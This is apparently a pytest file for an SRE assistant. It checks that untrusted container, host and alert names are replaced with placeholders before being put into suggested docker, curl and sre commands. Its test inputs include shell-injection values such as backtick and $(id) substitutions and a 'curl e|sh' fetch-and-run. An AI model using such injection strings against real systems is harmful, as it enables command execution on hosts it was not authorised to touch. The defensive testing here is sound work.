"""No name that a stranger gave stands in a command for copying where a shell would run it."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from sre_tui.agent.analyst.calls import Caller
from sre_tui.agent.analyst.entities import Entity, EntityKind
from sre_tui.agent.analyst.intent import understand
from sre_tui.agent.analyst.look import Look
from sre_tui.agent.analyst.requests import commands_for
from sre_tui.diagnosis.causes.words import command_about
from sre_tui.diagnosis.subject import Subject, SubjectKind
from tests.unit.analyst.constructed import HandedOut

NOW = datetime(2026, 3, 14, 15, tzinfo=UTC)


@pytest.mark.parametrize(
    ("name", "command"),
    [("jellyfin", "`docker restart jellyfin` on media"),
     ("x`;curl e|sh", "`docker restart <name>` on media"),
     ("x$(id)", "`docker restart <name>` on media"), ("x y", "`docker restart <name>` on media")],
)  # fmt: skip
def test_a_request_to_act_names_only_what_is_one_word(name: str, command: str) -> None:
    caller = Caller(HandedOut(lambda tool, arguments: None), 5)
    look = Look(question=understand("restart it", "", NOW, UTC), caller=caller, now=NOW)
    look.inventory.containers[name] = {"media"}
    entity = Entity(kind=EntityKind.SERVICE, name=name, hosts=("media",))
    assert list(commands_for(look, "restart", entity)) == [command]


@pytest.mark.parametrize(
    ("template", "kind", "name", "command"),
    [
        ("docker logs {name}", SubjectKind.CONTAINER, "media/sonarr", "docker logs sonarr"),
        ("docker logs {name}", SubjectKind.CONTAINER, "media/x`;curl e|sh",
         "docker logs <container>"),
        ("curl https://{host}/", SubjectKind.SITE, "a.b$(id)", "curl https://<host>/"),
        ("sre alerts show '{name}'", SubjectKind.ALERT, "Disk nearly full",
         "sre alerts show 'Disk nearly full'"),
        ("sre alerts show '{name}'", SubjectKind.ALERT, "x';curl e|sh;'",
         "sre alerts show <alert>"),
        ("sre alerts show '{name}'", SubjectKind.ALERT, "x`id`", "sre alerts show <alert>"),
        ("sre logs query '{{service_name=\"{name}\"}}'", SubjectKind.CONTAINER, "media/sonarr",
         "sre logs query '{service_name=\"sonarr\"}'"),
    ],
)  # fmt: skip
def test_what_would_settle_a_cause_names_only_what_is_safe(
    template: str, kind: SubjectKind, name: str, command: str
) -> None:
    assert command_about(template, Subject(kind=kind, name=name)) == command
